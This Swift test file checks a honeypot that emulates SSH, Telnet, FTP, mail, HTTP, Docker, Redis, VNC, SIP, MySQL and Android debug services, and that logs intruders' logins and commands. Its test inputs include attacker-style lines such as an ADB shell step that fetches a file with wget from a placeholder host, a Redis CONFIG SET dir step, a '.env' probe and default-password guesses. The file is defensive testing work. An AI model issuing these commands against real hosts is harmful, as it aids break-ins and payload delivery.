import Foundation
import Model
import TestKit
import Testing

@testable import Sources

/// Each protocol by what is said: `<` is ours, `>` the client's.
@Suite struct DecoyDialogueTests {
    struct Row: Sendable, CustomTestStringConvertible {
        var service: DecoyService
        var says: [String]
        /// Beginnings of what we say, the opening first.
        var hears: [String]
        /// Steps as `kind:user:password`, or `kind:text`.
        var steps: [String]
        var ends: Bool
        var testDescription: String { "\(service.rawValue) \(says.first ?? "")" }
    }

    static func plain(_ user: String, _ password: String) -> String { Data("\0\(user)\0\(password)".utf8).base64EncodedString() }
    static func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

    static let options = """
        OPTIONS sip:100@192.0.2.1 SIP/2.0\r
        Via: SIP/2.0/UDP 198.51.100.7:5060;branch=z9\r
        From: "s" <sip:100@192.0.2.1>;tag=1\r
        To: <sip:100@192.0.2.1>\r
        Call-ID: 1\r
        CSeq: 1 OPTIONS\r
        User-Agent: friendly-scanner\r
        \r

        """

    static let table: [Row] = [
        Row(
            service: .ssh, says: ["SSH-2.0-Go\r\n", String(repeating: "k", count: 300)], hears: ["SSH-2.0-OpenSSH", "", ""],
            steps: [], ends: true),
        Row(service: .ssh, says: ["GET / HTTP/1.1\r\n"], hears: ["SSH-2.0", "Invalid SSH"], steps: [], ends: true),
        Row(
            service: .telnet, says: ["\u{0}root\r\n", "12345\r\n", "admin\r\0", "\r\n"],
            hears: ["", "root\r\nPassword: ", "\r\nLogin incorrect\r\nlogin: ", "admin\r\nPassword", "\r\nLogin incorrect"],
            steps: ["login:root:12345", "login:admin:"], ends: false),
        Row(
            service: .ftp, says: ["USER anonymous\r\n", "PASS me@example.org\r\n", "LIST\r\nQUIT\r\n"],
            hears: ["220 ", "331 ", "530 Login", "530 Please"], steps: ["login:anonymous:me@example.org", "command:LIST"], ends: true),
        Row(service: .ftp, says: ["PASS x\r\n"], hears: ["220", "503"], steps: [], ends: false),
        Row(
            service: .smtp,
            says: [
                "EHLO relay.example\r\n", "AUTH PLAIN \(plain("u", "p w"))\r\n", "AUTH LOGIN\r\n", "\(base64("info"))\r\n",
                "\(base64("secret"))\r\n", "MAIL FROM:<a@example.org>\r\n", "QUIT\r\n",
            ],
            hears: ["220", "250-mail", "535", "334 VXNlcm5hbWU6", "334 UGFzc3dvcmQ6", "535", "530", "221"],
            steps: ["login:u:p w", "login:info:secret", "command:MAIL FROM:<a@example.org>"], ends: true),
        Row(
            service: .smtp, says: ["AUTH PLAIN\r\n", "!!!\r\n", "AUTH CRAM-MD5\r\n"], hears: ["220", "334", "501", "535"], steps: [],
            ends: false),
        Row(
            service: .pop3,
            says: ["CAPA\r\n", "USER bob\r\n", "PASS hunter2\r\n", "AUTH PLAIN\r\n", "\(plain("eve", "x"))\r\n", "QUIT\r\n"],
            hears: ["+OK", "+OK\r\nUSER", "+OK", "-ERR [AUTH]", "+ ", "-ERR", "+OK"], steps: ["login:bob:hunter2", "login:eve:x"],
            ends: true),
        Row(
            service: .imap,
            says: [
                "a1 CAPABILITY\r\n", "a2 LOGIN \"bob smith\" \"pa\\\"ss\"\r\n", "a3 LOGIN {3}\r\n", "eve {1}\r\n", "x\r\n",
                "a4 AUTHENTICATE PLAIN \(plain("u", "v"))\r\n", "a5 SELECT INBOX\r\n", "a6 LOGOUT\r\n",
            ],
            hears: ["* OK", "* CAPABILITY", "a2 NO", "+ OK", "+ OK", "a3 NO", "a4 NO", "a5 BAD", "* BYE"],
            steps: ["login:bob smith:pa\"ss", "login:eve:x", "login:u:v", "command:a5 SELECT INBOX"], ends: true),
        Row(
            service: .http,
            says: [
                "GET /.env?x=1 HTTP/1.1\r\nHost: decoy.example\r\nUser-Agent: probe\r\n\r\n",
                "POST /login HTTP/1.1\r\nContent-Length: 9\r\nAuthorization: Basic \(base64("admin:a:b"))\r\n\r\nuser=root",
                "HEAD / HTTP/1.0\r\n\r\n",
            ],
            hears: ["", "HTTP/1.1 404", "HTTP/1.1 401", "HTTP/1.1 200"],
            steps: ["request:GET /.env?x=1", "login:admin:a:b", "request:HEAD /"], ends: true),
        Row(service: .http, says: ["\u{16}\u{3}\u{1} \r\n\r\n"], hears: ["", "HTTP/1.1 400"], steps: [], ends: true),
        Row(
            service: .http, says: ["POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"],
            hears: ["", "HTTP/1.1 200"],
            steps: ["request:POST /"], ends: true),
        Row(
            service: .docker, says: ["GET /v1.41/version HTTP/1.1\r\n\r\nPOST /containers/create HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}"],
            hears: ["", "HTTP/1.1 200"], steps: ["request:GET /v1.41/version", "request:POST /containers/create"], ends: false),
        Row(
            service: .redis,
            says: [
                "*1\r\n$4\r\nPING\r\n", "INFO\r\n", "*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$5\r\n\n\n* *\r\n", "*2\r\n$4\r\nAUTH\r\n$3\r\nfoo\r\n",
                "CONFIG SET dir /tmp\r\n", "NONSENSE\r\n", "QUIT\r\n",
            ],
            hears: ["", "+PONG", "$", "+OK", "-WRONGPASS", "+OK", "-ERR unknown", "+OK"],
            steps: [
                "command:PING", "command:INFO", "command:SET x \n\n* *", "login::foo", "command:CONFIG SET dir /tmp", "command:NONSENSE",
                "command:QUIT",
            ], ends: true),
        Row(service: .redis, says: ["*99999999\r\n"], hears: ["", "-ERR Protocol"], steps: ["command:*99999999\r\n"], ends: true),
        Row(
            service: .vnc, says: ["RFB 003.008\n", "\u{2}", "0123456789abcdef"], hears: ["RFB 003.008\n", "\u{1}\u{2}", "", ""],
            steps: ["login::"], ends: true),
        Row(service: .vnc, says: ["RFB 003.008\n\u{1}"], hears: ["RFB", "\u{1}\u{2}"], steps: [], ends: true),
        Row(
            service: .sip,
            says: [
                options
            ],
            hears: ["", "SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 198.51.100.7"], steps: ["request:100"], ends: true),
        // The answer would be longer than the request: there is none.
        Row(service: .sip, says: ["REGISTER sip:a SIP/2.0\r\n\r\n"], hears: ["", ""], steps: ["request:REGISTER"], ends: true),
        Row(service: .sip, says: ["nonsense"], hears: ["", ""], steps: [], ends: true),
    ]

    static func text(_ step: DecoyStep) -> String {
        switch step.kind {
        case .login: "login:\(step.user ?? ""):\(step.password ?? "")"
        case .command: "command:\(step.command ?? "")"
        case .request: "request:" + (step.target.map { "\(step.method ?? "") \($0)" } ?? step.user ?? step.method ?? "")
        case .contact: "contact"
        }
    }

    @Test(arguments: table) func conversations(row: Row) {
        var dialogue = row.service.dialogue(random: Array(1...20))
        var notes = DecoyNotes()
        var heard = [dialogue.open()]
        var ends = false
        for said in row.says {
            let answer = dialogue.receive(Array(said.utf8), &notes)
            heard.append(answer.bytes)
            ends = answer.ends
        }
        #expect(heard.count == row.hears.count)
        for (bytes, beginning) in zip(heard, row.hears) {
            #expect(bytes.starts(with: beginning.utf8), "\(DecoyNotes.text(bytes)) begins with \(beginning)")
        }
        #expect(notes.steps.map(Self.text) == row.steps)
        #expect(ends == row.ends)
    }

    /// However the bytes are cut, the same is noted and said.
    @Test(arguments: table.filter { !$0.service.isDatagram && $0.service != .http }) func cutsDoNotMatter(row: Row) {
        var (whole, cut) = (row.service.dialogue(random: [7]), row.service.dialogue(random: [7]))
        var (first, second) = (DecoyNotes(), DecoyNotes())
        #expect(whole.open() == cut.open())
        let bytes = Array(row.says.joined().utf8)
        let answer = whole.receive(bytes, &first)
        var pieces = DecoyAnswer()
        for byte in bytes where !pieces.ends { pieces += cut.receive([byte], &second) }
        // A line of nonsense is noted as far as it has come.
        if row.service != .redis || row.steps.count > 1 { #expect(first.steps == second.steps) }
        #expect(answer.ends == pieces.ends)
    }

    @Test func optionsOfTelnetAreSteppedOver() {
        var dialogue = TelnetDecoy()
        var notes = DecoyNotes()
        _ = dialogue.open()
        var bytes: [UInt8] = [255, 253, 1, 255, 250, 24, 0, 120, 255, 255, 255, 240]
        bytes += "ro".utf8
        bytes += [255, 241] as [UInt8]
        bytes += "ot\r\n".utf8
        _ = dialogue.receive(bytes, &notes)
        _ = dialogue.receive([120, 255, 255, 13, 0], &notes)
        #expect(notes.steps.first?.user == "root")
        #expect(notes.steps.first?.password == "x\u{fffd}")
    }

    @Test func loginsToMySQLAreRead() {
        var dialogue = MySQLDecoy(salt: Array(0..<20))
        var notes = DecoyNotes()
        let greeting = dialogue.open()
        #expect(greeting[4] == 10 && Int(greeting[0]) == greeting.count - 4)
        #expect(!greeting[16...24].dropLast().contains(0))
        // Flags, longest packet, character set, filler, account, length of the proof, proof, database.
        var body: [UInt8] = [0x0d, 0xa6, 0x0f, 0x00, 0, 0, 0, 1, 45]
        body += [UInt8](repeating: 0, count: 23)
        body += "root\0".utf8
        body += [3, 0xab, 0xcd, 0xef] as [UInt8]
        body += "wp\0".utf8
        var packet: [UInt8] = [UInt8(body.count), 0, 0, 1]
        packet += body
        let answer = dialogue.receive(packet, &notes)
        #expect(answer.ends && answer.bytes[3] == 2 && answer.bytes[4] == 0xff)
        #expect(notes.steps.map(\.user) == ["root"] && notes.steps[0].proof == "abcdef" && notes.steps[0].database == "wp")
    }

    static func adb(_ name: String, _ first: UInt32, _ data: String) -> [UInt8] {
        var command: UInt32 = 0
        for byte in name.utf8.reversed() { command = command << 8 | UInt32(byte) }
        let words: [UInt32] = [command, first, 0, UInt32(data.utf8.count), 0, command ^ 0xffff_ffff]
        var bytes: [UInt8] = []
        for word in words { for shift: UInt32 in [0, 8, 16, 24] { bytes.append(UInt8(truncatingIfNeeded: word >> shift)) } }
        bytes += data.utf8
        return bytes
    }

    @Test func commandsOverTheDebugBridgeAreRead() {
        var dialogue = ADBDecoy()
        var notes = DecoyNotes()
        let hello = dialogue.receive(Self.adb("CNXN", 1, "host::features=cmd"), &notes)
        #expect(hello.bytes.starts(with: "CNXN".utf8))
        let shell = Self.adb("OPEN", 5, "shell:cd /data; wget http://192.0.2.1/x\0")
        #expect(dialogue.receive(Array(shell[..<30]), &notes).bytes.isEmpty)
        let answer = dialogue.receive(Array(shell[30...]), &notes)
        #expect(answer.bytes.starts(with: "OKAY".utf8) && answer.bytes.count == 48)
        #expect(notes.client == "host::features=cmd")
        #expect(notes.steps.map(\.command) == ["shell:cd /data; wget http://192.0.2.1/x"])
        #expect(dialogue.receive(Array(repeating: 1, count: 24), &notes).ends)
    }

    // MARK: Hostile input

    /// Any bytes to any protocol: nothing traps, notes and answers stay within bounds, and the record is JSON that the format reads.
    @Test(arguments: DecoyService.allCases) func anyBytesAreTaken(service: DecoyService) throws {
        var random = SeededGenerator(seed: UInt64(service.rawValue.utf8.count))
        var phrases: [[UInt8]] = Self.table.filter { $0.service == service }.flatMap(\.says).map { Array($0.utf8) }
        phrases.append(Self.adb("OPEN", 1, "shell:x\0"))
        for _ in 0..<(SharedData.isSlowTier ? 20_000 : 400) {
            var conversation = DecoyConversation(
                service, at: Timestamp(milliseconds: 1_763_719_200_000), maximumBytes: 4096,
                random: (0..<20).map { _ in UInt8.random(in: 0...255, using: &random) })
            var said = conversation.open().count
            for _ in 0..<Int.random(in: 0...6, using: &random) {
                var bytes = phrases.randomElement(using: &random) ?? []
                for _ in 0..<Int.random(in: 0...4, using: &random) where !bytes.isEmpty {
                    let at = Int.random(in: bytes.indices, using: &random)
                    switch Int.random(in: 0...3, using: &random) {
                    case 0: bytes[at] = UInt8.random(in: 0...255, using: &random)
                    case 1: bytes.removeSubrange(at...)
                    case 2: bytes.insert(contentsOf: (0..<20).map { _ in UInt8.random(in: 0...255, using: &random) }, at: at)
                    default: bytes.insert(contentsOf: bytes[at...], at: at)
                    }
                }
                let answer = conversation.receive(bytes, at: Timestamp(milliseconds: 1_763_719_201_000))
                #expect(!service.isDatagram || answer.count <= bytes.count)
                said += answer.count
            }
            #expect(said < 200_000)
            let endpoints = DecoyConversation.Endpoints(
                peer: IPAddress("192.0.2.7"), peerPort: 4711, local: IPAddress("198.51.100.1"), localPort: 22)
            let record = conversation.record(endpoints, end: .peer, at: Timestamp(milliseconds: 1_763_719_202_000))
            let object = try #require(try JSONSerialization.jsonObject(with: Data(record)) as? [String: Any])
            let steps = try #require(object["steps"] as? [[String: Any]])
            #expect((1...DecoyNotes.maximumSteps).contains(steps.count))
            #expect(record.count < 64 * 11 * DecoyNotes.maximumText)
        }
    }

    @Test func stepsAndBytesAreBounded() throws {
        var conversation = DecoyConversation(.redis, at: Timestamp(milliseconds: 0), maximumBytes: 2000, random: [])
        for _ in 0..<100 { _ = conversation.receive(Array("PING\r\nPING\r\n".utf8), at: Timestamp(milliseconds: 1)) }
        #expect(!conversation.isOver)
        for _ in 0..<100 { _ = conversation.receive(Array("PING\r\nPING\r\n".utf8), at: Timestamp(milliseconds: 1)) }
        #expect(conversation.isOver)
        let endpoints = DecoyConversation.Endpoints(peer: nil, peerPort: 0, local: nil, localPort: 0)
        let record = conversation.record(endpoints, end: .peer, at: Timestamp(milliseconds: 2))
        let object = try #require(try JSONSerialization.jsonObject(with: Data(record)) as? [String: Any])
        #expect((object["steps"] as? [Any])?.count == 32)
        #expect(object["steps_dropped"] as? Int ?? 0 > 200)
        #expect(object["end"] as? String == "limit")
    }

    /// An address that is forged is not flooded, and many of them cost no memory.
    @Test func answersToDatagramsAreBudgeted() throws {
        var budget = DecoyBudget()
        let address = try #require(IPAddress("192.0.2.7"))
        let start = Timestamp(milliseconds: 1_763_719_200_000)
        let answers = (0..<50).filter { _ in budget.allows(address, at: start) }.count
        #expect(answers == DecoyBudget.answers)
        let isAllowedLater = budget.allows(address, at: start.adding(seconds: 61))
        #expect(isAllowedLater)
        let addresses = (0..<10_000).filter { budget.allows(IPAddress(v4: UInt32($0)), at: start) }.count
        #expect(addresses == DecoyBudget.addresses)
        let isUnknownAllowed = budget.allows(nil, at: start)
        #expect(!isUnknownAllowed)
    }

    @Test func base64IsRead() {
        for text in ["", "a", "ab", "abc", "\u{0}x\u{0}y"] {
            #expect(DecoyBase64.encode(text.utf8) == Self.base64(text))
            #expect(DecoyBase64.decode(Self.base64(text).utf8).map { DecoyNotes.text($0) } == text)
        }
        #expect(DecoyBase64.decode("a b".utf8) == nil)
    }
}
